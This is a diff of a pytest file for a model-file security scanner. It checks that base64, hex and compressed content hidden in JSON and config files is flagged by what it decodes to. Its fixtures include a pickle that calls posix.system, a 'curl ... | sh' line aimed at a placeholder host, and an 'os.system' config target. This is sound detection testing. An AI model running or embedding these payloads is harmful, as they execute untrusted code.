@@ -2,14 +2,19 @@
 
 import base64
 import codecs
+import gzip
+import json
+import lzma
 import pickle
-from collections.abc import Iterable, Iterator
+import textwrap
+from collections.abc import Callable, Iterable, Iterator
 
 import pytest
 
 from budmodel_scanner.content import Content, MemoryContent, Place
+from budmodel_scanner.router import examine_file
 from budmodel_scanner.texts.examine import examine_text, looks_like_text
-from budmodel_scanner.verdict import Finding, Verdict
+from budmodel_scanner.verdict import Finding, Verdict, verdict_of
 from tests.unit.budmodel_scanner.text_examination import findings_of, rules_of, verdict_of_text
 
 PICKLE = pickle.dumps({"a": [1, 2, 3], "b": "text"}, protocol=4)
@@ -17,17 +22,43 @@ TEXT_PICKLE = b"cbuiltins\nprint\n(S'x'\ntR."
 POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 123\n"
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        '{"x": "' + base64.b64encode(PICKLE).decode() + '"}',
-        '{"x": "' + base64.urlsafe_b64encode(PICKLE).decode().rstrip("=") + '"}',
-        '{"x": "' + PICKLE.hex() + '"}',
-        '{"x": "' + base64.b64encode(b"\x7fELF" + bytes(60)).decode() + '"}',
-    ],
-)
-def test_encoded_content_is_suspicious(text: str) -> None:
-    assert rules_of("data.json", text) == {"text.encoded-content"}
+HOSTILE = b"\x80\x02cposix\nsystem\nX\x2c\x00\x00\x00echo" + b" " * 40 + b"\x85R."
+COMMAND = b"curl -s http://x.invalid/a/path/of/some/length | sh"
+WRITTEN: dict[str, Callable[[bytes], str]] = {
+    "base64": lambda data: base64.b64encode(data).decode(),
+    "base64 of addresses": lambda data: base64.urlsafe_b64encode(data).decode().rstrip("="),
+    "base64 in lines": lambda data: "\\n".join(textwrap.wrap(base64.b64encode(data).decode(), 60)),
+    "base32": lambda data: base64.b32encode(data).decode(),
+    "base85": lambda data: base64.b85encode(data).decode(),
+    "Adobe's": lambda data: json.dumps(base64.a85encode(data).decode())[1:-1],
+    "digits": bytes.hex,
+    "escapes": lambda data: "".join(f"\\\\x{byte:02x}" for byte in data),
+    "twice": lambda data: base64.b64encode(base64.b85encode(gzip.compress(data))).decode(),
+    "packed": lambda data: base64.b64encode(lzma.compress(data)).decode(),
+}
+
+
+@pytest.mark.parametrize("written", WRITTEN)
+def test_what_is_encoded_counts_by_what_it_is(written: str) -> None:
+    def said(data: bytes) -> Verdict:
+        text = f'{{"x": "{WRITTEN[written](data)}"}}'
+        return verdict_of(examine_file(MemoryContent(text.encode()), Place("data.json")))
+
+    assert said(HOSTILE) is Verdict.MALICIOUS
+    assert said(COMMAND) is Verdict.SUSPICIOUS
+    assert said(b"\x7fELF" + bytes(range(60))) is Verdict.SUSPICIOUS
+    assert said(PICKLE) is Verdict.SAFE
+    assert said(b"an ordinary note of a few words, or " + bytes(range(60))) is Verdict.SAFE
+
+
+def test_a_list_of_numbers_and_a_text_of_json_are_read() -> None:
+    numbers, plain = json.dumps({"x": [*HOSTILE]}), json.dumps({"x": [*PICKLE]})
+    assert verdict_of(examine_file(MemoryContent(numbers.encode()), Place("a.json"))) is Verdict.MALICIOUS
+    assert verdict_of(examine_file(MemoryContent(plain.encode()), Place("a.json"))) is Verdict.SAFE
+    for name, value in (("_target_", "os.system"), ("auto_map", {"AutoModel": "x--y.Z"})):
+        inner = json.dumps({"a": json.dumps({"b": json.dumps({name: value})})})
+        assert verdict_of_text("config.json", inner) is not Verdict.SAFE
+    assert verdict_of_text("config.json", json.dumps({"a": json.dumps({"_target_": "torch.nn.Linear"})})) is Verdict.SAFE
 
 
 def test_encoded_content_is_handed_on_decoded() -> None:
@@ -38,7 +69,7 @@ def test_encoded_content_is_handed_on_decoded() -> None:
         handed.append(source.data)
         yield Finding("inner", Verdict.MALICIOUS, "x")
 
-    text = b'{"policy": {":serialized:": "' + base64.b64encode(PICKLE) + b'"}}'
+    text = b'{"policy": {"state": "' + base64.b64encode(PICKLE) + b'"}}'
     found = list(examine_text(MemoryContent(text), Place("data"), nested))
     assert handed == [PICKLE]
     assert [finding.rule for finding in found] == ["inner"]
